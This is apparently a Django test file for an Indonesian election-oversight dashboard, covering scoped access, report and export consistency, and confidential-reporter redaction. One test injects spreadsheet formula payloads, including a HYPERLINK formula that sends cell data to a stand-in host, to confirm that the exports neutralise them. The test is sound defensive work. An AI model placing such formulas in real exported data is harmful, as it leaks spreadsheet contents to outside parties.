"""The dashboard page, the evaluation report and the exports, through the HTTP client."""

from __future__ import annotations

import csv
import io
import re

from django.test import Client
from openpyxl import load_workbook
from pypdf import PdfReader

from netral.accounts.models import User
from netral.dashboards.selectors import DashboardFilters, dashboard_build
from netral.dashboards.tables import format_cell
from tests.dashboards.conftest import World


def _html_table(html: str, key: str) -> list[list[str]]:
    section = html.split(f'data-table="{key}"', 1)[1].split("</section>", 1)[0]
    body = section.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    return [
        [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", r, re.S)]
        for r in rows
    ]


# --- dashboard page ----------------------------------------------------------------------


def test_alice_dashboard_shows_kutai_timur(alice_client: Client, world: World) -> None:
    response = alice_client.get("/dasbor/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-figure="officials"><span class="figure-value">6<' in html
    assert "Kab. Kutai Timur" in html
    assert "Kec. Muara Ancalong" in html
    assert "Bogor" not in html
    assert 'id="chart-by_region"' in html  # the chart reads the table's own json
    assert "<svg" in html  # the map, drawn on the server


def test_alice_gets_404_for_charlies_regency(alice_client: Client, world: World) -> None:
    assert alice_client.get("/dasbor/?region=32.01").status_code == 404
    assert alice_client.get("/dasbor/laporan.pdf?region=32.01").status_code == 404
    assert alice_client.get("/dasbor/ekspor/officials.csv?region=32.01").status_code == 404


def test_htmx_filter_returns_the_body_only(alice_client: Client, world: World) -> None:
    response = alice_client.get("/dasbor/?region=64.08.04", HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html
    assert "Sangatta Utara" in html


def test_a_bad_filter_is_a_clear_error(alice_client: Client, world: World) -> None:
    response = alice_client.get("/dasbor/?date_from=2024-10-02&date_to=2024-10-01")
    assert response.status_code == 400
    assert "Tanggal akhir" in response.content.decode()


def test_anonymous_is_sent_to_login(client: Client, world: World) -> None:
    response = client.get("/dasbor/")
    assert response.status_code == 302
    assert "/masuk/" in response["Location"]


def test_national_map_links_drill_down_to_a_province(dora_client: Client, world: World) -> None:
    html = dora_client.get("/dasbor/?metric=pledge_coverage").content.decode()
    assert 'data-code="64"' in html
    assert 'href="/dasbor/?metric=pledge_coverage&amp;region=64"' in html
    assert "<title>Prov. Kalimantan Timur: 50,0</title>" in html


# --- evaluation report: the same numbers in page, PDF and XLSX ---------------------------


def test_report_pdf_and_xlsx_carry_the_dashboards_numbers(
    alice: User, alice_client: Client, world: World
) -> None:
    # given: the numbers the selector produces (what the page shows)
    dash = dashboard_build(user=alice, filters=DashboardFilters(event=world.pilkada))
    query = f"event={world.pilkada.pk}"
    page = alice_client.get(f"/dasbor/?{query}").content.decode()
    # when
    pdf = alice_client.get(f"/dasbor/laporan.pdf?{query}")
    xlsx = alice_client.get(f"/dasbor/laporan.xlsx?{query}")
    # then
    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
    book = load_workbook(io.BytesIO(xlsx.content), read_only=True)
    for table in dash.tables:
        expected = table.formatted_rows()
        assert _html_table(page, table.key) == expected or not expected
        sheet = next(s for s in book.worksheets if s.title.startswith(table.title[:20]))
        values = [list(r) for r in sheet.iter_rows(values_only=True)][: 1 + len(table.rows)]
        assert values[0] == [str(c) for c in table.columns]
        assert [["" if v is None else v for v in r] for r in values[1:]] == [
            ["" if v is None else v for v in r] for r in table.rows
        ]
        for row in expected:  # each row's cells, in order, on one line of the PDF
            words = [re.escape(w) for c in row for w in c.split()]
            assert re.search(r"\s+".join(words), text), row
    summary = [list(r) for r in book["Ringkasan"].iter_rows(values_only=True)]
    for figure in dash.figures:
        assert [figure.label, figure.value, figure.suffix or None] in summary
        assert f"{figure.label} {format_cell(figure.value)}" in text


# --- exports ------------------------------------------------------------------------------


def test_officials_csv_is_streamed_and_scoped(alice_client: Client, world: World) -> None:
    response = alice_client.get("/dasbor/ekspor/officials.csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["X-Netral-Rows"] == "7"  # the inactive one is exported too
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:3] == ["ID", "Jenis subjek", "Nama"]
    names = sorted(r[2] for r in rows[1:])
    assert names == sorted(f"Pejabat {k}" for k in ("K1", "K2", "P1", "P2", "K3", "J1", "X1"))


def test_officials_xlsx_export(dora_client: Client, world: World) -> None:
    response = dora_client.get("/dasbor/ekspor/officials.xlsx?region=32.01")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 1 + 4
    assert {r[2] for r in rows[1:]} == {"Pejabat B1", "Pejabat B2", "Pejabat B3", "Pejabat B4"}


def test_export_page_counts_rows(charlie_client: Client, world: World) -> None:
    html = charlie_client.get("/dasbor/ekspor/").content.decode()
    assert 'data-export-row="officials"' in html
    assert "<td>4</td>" in html


def test_unknown_export_is_404(alice_client: Client, world: World) -> None:
    assert alice_client.get("/dasbor/ekspor/nothing.csv").status_code == 404
    assert alice_client.get("/dasbor/ekspor/officials.pdf").status_code == 404


def test_a_confidential_reporter_is_never_exported(alice_client: Client, world: World) -> None:
    # given: two reports in Kutai Timur, one from a confidential reporter
    from netral.cases.models import Case, Reporter

    c1, c3 = Case.objects.filter(
        origin="LAPORAN", incident_region__code__startswith="64.08.0"
    ).order_by("pk")[:2]
    Reporter.objects.create(
        case=c1,
        kind="WNI",
        name="Rahasia Sekali",
        address="Jl. Uji",
        phone="0811",
        confidential=True,
    )
    Reporter.objects.create(
        case=c3, kind="WNI_HAK_PILIH", name="Warga Terbuka", address="Jl. Uji", phone="0812"
    )
    # when
    for fmt in ("csv", "xlsx"):
        response = alice_client.get(f"/dasbor/ekspor/reports.{fmt}")
        body = b"".join(response.streaming_content)
        if fmt == "xlsx":
            book = load_workbook(io.BytesIO(body), read_only=True)
            text = repr(list(book.worksheets[0].iter_rows(values_only=True)))
        else:
            text = body.decode("utf-8-sig")
        # then
        assert "Rahasia Sekali" not in text
        assert "(dirahasiakan)" in text
        assert "Warga Terbuka" in text
        assert "0811" not in text  # no telephone numbers at all


def test_every_dataset_exports_within_jurisdiction(charlie_client: Client, world: World) -> None:
    for key in ("officials", "signatures", "cases", "reports", "follow_ups"):
        response = charlie_client.get(f"/dasbor/ekspor/{key}.csv")
        assert response.status_code == 200, key
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        assert "64.08" not in body, key  # nothing from Kutai Timur
    cases = b"".join(charlie_client.get("/dasbor/ekspor/cases.csv").streaming_content)
    assert cases.decode("utf-8-sig").count("32.01.01.1001") == 1


# --- API ------------------------------------------------------------------------------------


def test_api_summary_has_the_dashboards_numbers(
    alice: User, alice_client: Client, world: World
) -> None:
    dash = dashboard_build(user=alice, filters=DashboardFilters(event=world.pilkada))
    response = alice_client.get(f"/api/v1/dashboards/summary?event={world.pilkada.pk}")
    assert response.status_code == 200
    body = response.json()
    assert body["scope_code"] == "64.08"
    assert {f["key"]: f["value"] for f in body["figures"]} == {f.key: f.value for f in dash.figures}
    assert {t["key"]: t["rows"] for t in body["tables"]} == {t.key: t.rows for t in dash.tables}


def test_api_summary_is_scoped_and_validated(
    alice_client: Client, client: Client, world: World
) -> None:
    assert alice_client.get("/api/v1/dashboards/summary?region=32.01").status_code == 404
    assert client.get("/api/v1/dashboards/summary").status_code == 401
    bad = alice_client.get("/api/v1/dashboards/summary?date_from=2024-10-02&date_to=2024-10-01")
    assert bad.status_code == 400
    assert "date_to" in bad.json()["error"]["message"]


# --- exports are formula-safe and typed (issue 14 point 8, issue 18 point 3) ---------------


def test_a_formula_in_a_report_title_is_inert_in_csv_and_xlsx(
    alice_client: Client, world: World
) -> None:
    # given a case whose title (typed by a citizen) is a spreadsheet formula
    from netral.cases.models import Case

    case = Case.objects.filter(incident_region__code__startswith="64.08").order_by("pk").first()
    assert case is not None
    payloads = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
    case.title = payloads[0]
    case.incident_place = "x"
    case.save(update_fields=["title", "incident_place"])
    # when exported as CSV
    body = b"".join(alice_client.get("/dasbor/ekspor/cases.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    titles = [r[9] for r in rows[1:]]
    # then the cell starts with an apostrophe, never with the formula sign
    assert "'" + payloads[0] in titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    # when exported as XLSX: the same text, as a string cell, never a formula
    body = b"".join(alice_client.get("/dasbor/ekspor/cases.xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [row[9] for row in sheet.iter_rows(min_row=2)]
    target = next(c for c in cells if c.value == payloads[0])
    assert target.data_type == "s"
    assert all(c.data_type != "f" for c in cells)


def test_the_formula_guard_covers_every_dangerous_start() -> None:
    from netral.core.spreadsheets import formula_safe

    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert formula_safe(text) == "'" + text
    assert formula_safe(-1) == -1  # numbers are numbers
    assert formula_safe("Budi - Santoso") == "Budi - Santoso"


def test_exported_values_match_the_database_column_by_column(
    alice_client: Client, world: World
) -> None:
    """Per-column conversion (no model converters) gives what the ORM gives: local times with
    their offset, labels for choices, ya/tidak for booleans, dates as ISO."""

    from netral.cases.models import Case, Status
    from netral.core.zones import case_zone

    body = b"".join(alice_client.get("/dasbor/ekspor/cases.csv").streaming_content)
    rows = {int(r[0]): r for r in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]}
    assert rows
    for case in Case.objects.filter(pk__in=rows):
        row = rows[case.pk]
        assert row[5] == str(Status(case.status).label)
        assert row[10] == (case.event_date.isoformat() if case.event_date else "")
        # each row in its handling unit's zone, named in the last column (issue 12 point 7)
        zone = case_zone(case)
        expected = case.received_at.astimezone(zone.tz).isoformat() if case.received_at else ""
        assert row[12] == expected
        assert row[-1] == zone.abbreviation
    officials = b"".join(alice_client.get("/dasbor/ekspor/officials.csv").streaming_content)
    active = {r[11] for r in list(csv.reader(io.StringIO(officials.decode("utf-8-sig"))))[1:]}
    assert active == {"ya", "tidak"}
